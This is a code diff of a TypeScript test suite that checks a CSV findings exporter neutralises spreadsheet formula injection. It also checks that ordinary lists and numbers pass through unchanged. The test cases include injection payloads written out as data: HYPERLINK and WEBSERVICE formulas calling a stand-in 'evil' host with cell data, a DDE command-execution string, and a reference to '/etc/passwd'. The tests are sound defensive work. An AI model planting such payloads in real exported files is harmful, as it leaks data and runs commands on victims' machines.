@@ -78,14 +78,33 @@ describe('reportFindingsCsv', () => {
     expect(rows[1]![16]).toBe('11111111-1111-4111-8111-111111111111');
   });
 
-  it.each(['=HYPERLINK("http://evil")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])(
-    'neutralises the formula %j',
-    async (evil) => {
-      expect(neutralizeFormula(evil)).toBe(`'${evil}`);
-      const csv = await text(reportFindingsCsv({ findings: [finding({ title: evil, description: evil })] }));
-      const rows = parseCsv(csv.slice(1));
-      expect(rows[1]![1]).toBe(`'${evil}`);
-      expect(rows[1]![11]).toBe(`'${evil}`);
+  it.each([
+    '=HYPERLINK("http://evil")',
+    '+1+1',
+    '-2+3',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '-x',
+    "-2+3+cmd|' /C calc'!A0",
+    '- see =HYPERLINK("http://evil/?"&A1)',
+    '- item\n- =WEBSERVICE("http://evil")',
+    "+ 'file:///etc/passwd'#$Sheet1.A1",
+    '- other sheet: Sheet2!A1',
+  ])('neutralises the formula %j', async (evil) => {
+    expect(neutralizeFormula(evil)).toBe(`'${evil}`);
+    const csv = await text(reportFindingsCsv({ findings: [finding({ title: evil, description: evil })] }));
+    const rows = parseCsv(csv.slice(1));
+    expect(rows[1]![1]).toBe(`'${evil}`);
+    expect(rows[1]![11]).toBe(`'${evil}`);
+  });
+
+  it.each(['- item', '- first\n- second\n  - nested', '+ added in 2.0', '-5', '+3.5', '-1,234.5', '-2e3', '-12%'])(
+    'leaves the list or number %j as it is',
+    async (plain) => {
+      expect(neutralizeFormula(plain)).toBe(plain);
+      const csv = await text(reportFindingsCsv({ findings: [finding({ description: plain })] }));
+      expect(parseCsv(csv.slice(1))[1]![11]).toBe(plain);
     },
   );
 
